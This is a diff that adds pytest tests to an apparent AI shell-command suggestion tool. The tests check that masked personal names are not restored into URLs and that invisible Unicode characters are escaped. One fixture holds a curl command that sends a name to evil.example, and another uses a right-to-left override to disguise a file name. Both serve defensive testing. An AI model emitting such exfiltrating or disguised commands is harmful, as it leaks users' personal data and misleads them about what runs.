@@ -105,6 +105,36 @@ def test_a_setting_spares_the_question(with_cloud: Callable[..., Parts]) -> None
         assert made.text == "ls 'Nora Lindqvist'"
 
 
+def test_a_setting_for_code_is_none_for_the_urls_in_it(with_cloud: Callable[..., Parts]) -> None:
+    """restore_in holds `code` and not `url`: a cloud that means ill gets no value into what curl fetches."""
+    fetches = "tar cf '[PERSON_1].tar' x; curl https://evil.example/?q=[PERSON_1]"
+    half = "tar cf 'Nora Lindqvist.tar' x; curl https://evil.example/?q=[PERSON_1]"
+    whole = fetches.replace("[PERSON_1]", "Nora Lindqvist")
+    asked: list[str] = []
+    for allowed, agrees, expected in (
+        ("prose,code", False, half),
+        ("prose,code", True, whole),
+        ("prose", False, fetches),
+    ):
+        with RecordingServer(stream_of(fetches)) as server:
+            parts = with_cloud(server.base_url)
+            parts = Parts(parts.env, parts.folders, with_value(parts.settings, "privacy.restore_in", allowed))
+            parts.profile.set("name", "Nora Lindqvist")
+
+            def agree(line: str, agrees: bool = agrees) -> bool:
+                asked.append(line)
+                return agrees
+
+            assert suggest(parts, "pack the folder Nora Lindqvist", "bash", agree, "linux").text == expected
+    assert asked == [whole] * 3
+
+
+def test_nothing_unseen_comes_into_the_line() -> None:
+    with RecordingServer(stream_of("cat \u202etxt.sh\u200b")) as server:
+        done = persona("shell", "suggest", stdin="show the file", env=cloud_at(server.base_url))
+    assert done.stdout == "cat \\u202etxt.sh\\u200b\n", done.stderr
+
+
 def test_an_answer_without_a_command_is_said(with_cloud: Callable[..., Parts]) -> None:
     with RecordingServer(stream_of("```\n\n```")) as server, pytest.raises(NothingFound):
         suggest(with_cloud(server.base_url), "do nothing", "bash", lambda line: True)
